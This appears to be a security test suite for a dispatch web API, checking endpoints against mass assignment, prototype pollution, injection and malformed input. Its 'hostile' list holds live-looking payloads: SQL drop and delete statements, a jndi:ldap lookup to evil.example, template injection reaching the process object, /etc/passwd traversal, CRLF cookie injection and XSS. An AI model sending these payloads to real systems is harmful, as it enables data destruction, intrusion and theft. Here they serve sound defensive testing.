import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Ask } from '../fixtures/centre.ts'
import { openTestCentre, type TestCentre } from '../fixtures/centre.ts'
import { type Door, documentOf, put, textsIn } from '../fixtures/document.ts'
import { livesThrough } from '../fixtures/life.ts'
import { streams } from '../fixtures/routes.ts'
import { type Action, type Role, rightOf } from '../platform/identity/rights.ts'

/** What nobody should send, sent to every door of the document by whoever may open it. */

let at: TestCentre
let api: Awaited<ReturnType<typeof documentOf>>
let ids: Readonly<Record<string, readonly string[]>>
beforeAll(async () => {
  at = await openTestCentre()
  await livesThrough(at)
  api = await documentOf(at)
  ids = await things()
})
afterAll(() => at?.close())

/** What is there, so that doors are gone through and not only knocked at. */
const things = async () => {
  const desk = await at.as('supervisor')
  const [alarms, incidents] = [await desk('GET', '/api/alarms'), await desk('GET', '/api/incidents')]
  const idsOf = (list: readonly { id: string }[]) => list.map(({ id }) => id)
  return {
    accounts: ['1234', '5678'],
    alarms: idsOf(alarms.body),
    incidents: idsOf(incidents.body),
    units: ['T-11'],
    assignments: idsOf(incidents.body).map((id) => `${id}.1`),
  }
}

const nameFor = ({ path }: Door): string => ids[path.split('/')[2]!]?.[0] ?? 'T-11'
const addressOf = (door: Door, name = nameFor(door)): string => door.path.replace(/\{\w+\}/g, encodeURIComponent(name))

/** Tokens of their own each time: some doors end the one by which they are opened. */
const whoMay = async (door: Door): Promise<Ask> => {
  const ask = (role: Role) => at.as(role, role === 'crew' ? 'T-11' : undefined)
  const { status, body } = await (await ask('inspector'))(door.method, addressOf(door, '0000'), door.body && {})
  const { roles } =
    status === 403 && body.code === 'not-allowed'
      ? rightOf(body.detail.action as Action)
      : { roles: ['supervisor'] as const }
  return ask((['administrator', 'supervisor', 'crew'] as const).find((role) => roles.includes(role)) ?? roles[0]!)
}

const isAsked = ({ path }: Door): boolean => !streams.includes(path)

const everything = async (): Promise<string> => {
  const { rows } = await at.pool.query<{ name: string }>(`
    select format('%I.%I', table_schema, table_name) as name from information_schema.tables
    where table_schema not in ('pg_catalog', 'information_schema') and table_type = 'BASE TABLE'`)
  const dumps = await Promise.all(
    rows.map(({ name }) => at.pool.query<{ line: string }>(`select t::text as line from ${name} t`)),
  )
  return dumps.flatMap((dump) => dump.rows.map(({ line }) => line)).join('\n')
}

test('mass assignment: what a form does not have is not taken over, whatever it is called', async () => {
  expect(api.names.length).toBeGreaterThan(150)
  const marker = 'TAKEN-OVER-7f3a'
  const extra = Object.fromEntries(
    [...api.names, 'isAdmin', 'way', 'lockedAt', 'userId', 'endsAt', 'scopes', 'constructor'].map((name) => [
      name,
      marker,
    ]),
  )
  const over = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(over)
    if (typeof value !== 'object' || value === null) return value
    return { ...extra, ...Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, over(inner)])) }
  }
  const outcomes: number[] = []
  for (const door of api.doors.filter(({ body }) => body)) {
    const sent = over(api.sample(door.body!))
    // These keep what an authenticator says as it is: better-auth reads it.
    if (/keys$|passkey/.test(door.path)) continue
    const { status, body } = await (await whoMay(door))(door.method, addressOf(door), sent)
    expect(status, `${door.method} ${door.path}`).toBeLessThan(500)
    expect(`${door.method} ${door.path} ${JSON.stringify(body).includes(marker)}`).toBe(
      `${door.method} ${door.path} false`,
    )
    outcomes.push(status)
  }
  expect(outcomes.filter((status) => status < 300).length).toBeGreaterThan(12)
  expect(await everything()).not.toContain(marker)
  for (const door of api.doors.filter(({ method }) => method === 'GET').filter(isAsked)) {
    const { bytes } = await (await whoMay(door))('GET', addressOf(door))
    expect(`${door.path} ${bytes.includes(marker)}`).toBe(`${door.path} false`)
  }
})

test('an object that is to become another is refused', async () => {
  const administrator = await at.as('administrator')
  for (const body of ['{"__proto__":{"role":"administrator"}}', '{"constructor":{"prototype":{"role":"x"}}}'])
    expect((await administrator('POST', '/api/units', body)).status).toBe(400)
  expect(({} as { role?: string }).role).toBeUndefined()
})

const hostile = [
  `'; drop table journal.event; --`,
  `' or '1'='1`,
  `1); delete from identity.pass; --`,
  `\\'; select pg_sleep(60); --`,
  `x\r\n{"level":60,"msg":"forged-line"}`,
  `\u001b[2Jforged-line`,
  '\u0000',
  '\ud800',
  `\${jndi:ldap://evil.example/a}`,
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie:%20yordam_session=evil',
  `<img src=x onerror=alert(1)>`,
  'a'.repeat(20_000),
]

describe('SQL, log and header injection', () => {
  test('every text of every form, every name in an address and every question is taken as a text or not at all', {
    timeout: 120_000,
  }, async () => {
    let asked = 0
    const isFine = (what: string, { status, headers }: Awaited<ReturnType<Ask>>) => {
      asked++
      expect(status, what).toBeLessThan(500)
      // At the door itself tries are counted, as they should be: see sessions.test.ts.
      if (!what.includes('/api/session')) expect(status, what).not.toBe(429)
      expect(`${what} ${String(headers['set-cookie'] ?? '').includes('evil')}`).toBe(`${what} false`)
    }
    for (const door of api.doors.filter(isAsked)) {
      const ask = await whoMay(door)
      const body = door.body && api.sample(door.body)
      for (const text of hostile) {
        const said = `${door.method} ${door.path} ${JSON.stringify(text).slice(0, 40)}`
        if (text.isWellFormed()) {
          if (door.inPath.length > 0) isFine(said, await ask(door.method, addressOf(door, text), body))
          for (const name of Object.keys(door.inQuery))
            isFine(
              `${said} ?${name}`,
              await ask(door.method, `${addressOf(door)}?${name}=${encodeURIComponent(text)}`, body),
            )
        }
        for (const path of textsIn(body))
          isFine(`${said} ${path}`, await ask(door.method, addressOf(door), put(body, path, text)))
      }
    }
    expect(asked).toBeGreaterThan(1_000)
  })

  test('nothing is broken by it', async () => {
    expect(await at.stranger('GET', '/api/health')).toMatchObject({ status: 200, body: { status: 'ok' } })
    const { rows } = await at.pool.query('select count(*)::int as n from journal.event')
    expect(rows[0].n).toBeGreaterThan(40)
    expect((await (await at.as('supervisor'))('GET', '/api/alarms')).status).toBe(200)
  })

  test('no line of the log is broken by it, and none of it stands there', () => {
    for (const line of at.log) {
      expect(line).not.toMatch(/forged-line|jndi|evil|passwd|onerror/)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what would break a line
      expect(line.replace(/\n +at /g, ' at ')).not.toMatch(/[\u0000-\u001f]/)
    }
  })

  test('what is no form at all is refused, and by no failure', async () => {
    const shapes = [
      'null',
      '0',
      '"x"',
      '[]',
      '{}',
      '[[[[]]]]',
      '{"a":',
      '',
      '\u0000',
      '1e999',
      '{"id":1e999}',
      '"\\ud800"',
    ]
    for (const door of api.doors.filter(({ body }) => body)) {
      const ask = await whoMay(door)
      for (const shape of shapes) {
        const { status } = await ask(door.method, addressOf(door, '0000'), shape)
        expect(status, `${door.method} ${door.path} ${shape}`).toBeLessThan(500)
      }
      for (const [name, value] of Object.entries((api.sample(door.body!) ?? {}) as object))
        for (const other of [null, 1e308, -1, true, [], {}, [value, value], { $ne: null }]) {
          const sent = { ...(api.sample(door.body!) as object), [name]: other }
          const { status } = await ask(door.method, addressOf(door, '0000'), sent)
          expect(status, `${door.method} ${door.path} ${name}`).toBeLessThan(500)
        }
    }
  })
})
